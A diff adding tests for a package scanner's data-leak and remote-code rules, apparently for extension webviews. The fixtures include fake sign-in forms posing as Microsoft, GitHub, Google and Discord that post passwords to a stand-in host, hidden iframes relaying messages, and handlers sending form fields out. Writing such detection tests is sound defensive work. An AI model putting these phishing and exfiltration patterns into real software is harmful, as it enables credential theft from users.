@@ -1,0 +1,48 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule as dataLeak } from './data-leak.rule.js';
+import { rule as remoteCode } from './remote-code.rule.js';
+
+const SHOW = "const { page } = require('./page.js'); exports.activate = async ({ ui, network }) => { const panel = await ui.createPanel('notes', { title: 'Notes' }); await panel.webview.setHtml(page('a')); panel.webview.onDidReceiveMessage((fields) => network.fetch('https://notes.neat-panels.dev/s', { method: 'POST', body: JSON.stringify(fields) })) }";
+const page = (html: string) => ({ 'index.js': SHOW, 'page.js': `const API = 'https://panel.neat-panels.dev'; exports.page = (nonce) => \`${html}\`` });
+const said = (rule: typeof dataLeak, html: string, dialect = 'formula') => findingsOf(rule, page(html), { dialect }).map(({ severity, file }) => `${severity} ${file}`);
+
+test('scripts of servers in a page that a host shows', () => {
+  for (const html of ['<!doctype html><body><script src="https://cdn.neat-panels.dev/latest/all.js"></script>', '<html><script type="module" src="${API}/v2/main.mjs?n=${nonce}"></script></html>', '<div id="a"></div><script src="//cdn.neat-panels.dev/a.js"></script>']) assert.deepEqual(said(remoteCode, html), ['high page.js'], html);
+  assert.deepEqual(said(remoteCode, '<body><script src="https://cdn.jsdelivr.net/npm/chart.js"></script>'), ['medium page.js']);
+  for (const html of [
+    '<body><script src="${nonce}/main.js" nonce="${nonce}"></script><img src="https://cdn.neat-panels.dev/a.png">',
+    '<body><script src="http://localhost:5173/@vite/client" type="module"></script>',
+    '<body><script src="https://js.stripe.com/v3/"></script>',
+    '<body><p>Write &lt;script src="https://cdn.neat-panels.dev/a.js"&gt; into your page.</p></body>',
+  ]) assert.deepEqual(said(remoteCode, html), [], html);
+  // A server that answers pages to browsers, and no host that shows them.
+  assert.deepEqual(findingsOf(remoteCode, { 'a.js': "exports.page = () => '<body><script src=\"https://cdn.neat-panels.dev/all.js\"></script>'" }), []);
+});
+
+test('frames of a server that nobody sees, and that get messages', () => {
+  const frame = (attributes: string, style = '') => `<style>${style}</style><iframe id="f" class="a" src="\${API}/in.html" ${attributes}></iframe><script>onmessage = (e) => f.contentWindow.postMessage(e.data, '*')</script>`;
+  for (const html of [frame('', '#f{position:absolute;width:0;height:0}'), frame('style="display:none"'), frame('width="0" height="0"'), frame('', 'body iframe.a, p { visibility: hidden }'), frame('hidden')]) assert.deepEqual(said(dataLeak, html), ['high page.js'], html);
+  for (const html of [
+    frame('style="width:100%;height:100%;border:0"'),
+    frame('', '#g{display:none} iframe{border:0;width:100%}'),
+    '<iframe src="${API}/in.html" style="display:none"></iframe>',
+    "<iframe id=\"f\" src=\"about:blank\" style=\"display:none\"></iframe><script>f.contentWindow.postMessage('a', '*')</script>",
+  ]) assert.deepEqual(said(dataLeak, html), [], html);
+});
+
+test('pages that pose as those on which people sign in elsewhere', () => {
+  const form = (title: string) => `<h1>${title}</h1><form id="f"><input name="mail"><input name="password" type="password"><button>Next</button></form><script>f.onsubmit = () => host.postMessage(Object.fromEntries(new FormData(f)))</script>`;
+  for (const title of ['Sign in to Formula', 'Sign in to your Microsoft account', 'Log in to GitHub', 'Enter your Google password', 'Discord · Login']) assert.deepEqual(said(dataLeak, form(title)), ['high page.js'], title);
+  assert.deepEqual(said(dataLeak, form('Sign in to VS Code'), 'vscode'), ['high page.js']);
+  // The browser sends it.
+  assert.deepEqual(findingsOf(dataLeak, { 'panel.html': '<h1>Sign in to Discord</h1><form action="https://in.neat-panels.dev/s" method="post"><input name="password" type="password"></form>' }).map(({ severity, file }) => `${severity} ${file}`), ['high panel.html']);
+  assert.deepEqual(findingsOf(dataLeak, { 'panel.html': '<h1>Sign in to Discord</h1><form action="https://discord.com/login" method="post"><input name="password" type="password"></form>' }), []);
+  // Without a script in the page, which another script of the package listens to.
+  assert.deepEqual(said(dataLeak, '<p>Your Formula session has expired.</p><form><input type="password" id="p"></form>'), ['high page.js']);
+  for (const title of ['Sign in to Neat Panels', 'Sign in with GitHub, or with a password', 'Use your Google account or a password of ours', 'Sign in to the server of your team', 'A formula for passwords', 'Sign in to Formula 1']) assert.deepEqual(said(dataLeak, form(title)), [], title);
+  // The service itself gets it, or nobody whom the package names.
+  assert.deepEqual(findingsOf(dataLeak, { ...page(form('Log in to GitLab')), 'index.js': SHOW.replace('notes.neat-panels.dev', 'gitlab.com') }), []);
+  assert.deepEqual(findingsOf(dataLeak, { 'index.js': SHOW.replace("'https://notes.neat-panels.dev/s'", 'settings.server'), 'page.js': `exports.page = () => \`${form('Log in to GitLab')}\`` }), []);
+});
